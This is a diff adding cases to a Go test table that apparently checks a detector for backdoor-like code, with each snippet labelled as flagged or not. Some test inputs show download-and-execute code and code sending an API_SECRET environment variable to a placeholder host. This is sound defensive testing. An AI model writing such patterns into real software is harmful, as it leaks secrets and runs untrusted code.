@@ -221,6 +221,13 @@ func TestGoDoors(t *testing.T) {
 		{"import \"html/template\"\nfunc f(x string) template.HTML { return template.HTML(\"<b>\" + template.HTMLEscapeString(x)) }", false},
 		{"import (\"net/http\"; \"os\"; \"os/exec\")\nfunc f(u string) { r, _ := http.Get(u); os.WriteFile(\"tool\", body(r), 0o755); exec.Command(\"./tool\").Run() }", true},
 		{"import (\"net/http\"; \"os\")\nfunc f(u string) { r, _ := http.Get(u); os.WriteFile(\"tool\", body(r), 0o755) }", false},
+		{"import \"os\"\nfunc f(client *vault.Client) { client.Get(os.Getenv(\"SECRET_PATH\")) }", false},
+		{"import \"os\"\nfunc f() { client := &vault.Client{}; client.Get(os.Getenv(\"SECRET_PATH\")) }", false},
+		{"import (\"net/http\"; \"os\")\nfunc f(client *http.Client) { client.Get(\"https://a.example/\" + os.Getenv(\"API_SECRET\")) }", true},
+		{"import \"os\"\nfunc f(client HTTPClient) { client.Get(\"https://a.example/\" + os.Getenv(\"API_SECRET\")) }", true},
+		{"import \"github.com/yuin/gopher-lua\"\nfunc f() { lua.NewState() }", true},
+		{"import \"github.com/edsrzf/mmap-go\"\nfunc f(h *os.File) { mmap.Map(h, mmap.EXEC, 0) }", true},
+		{"import \"github.com/edsrzf/mmap-go\"\nfunc f(h *os.File) { mmap.Map(h, mmap.RDONLY, 0) }", false},
 	})
 }
 
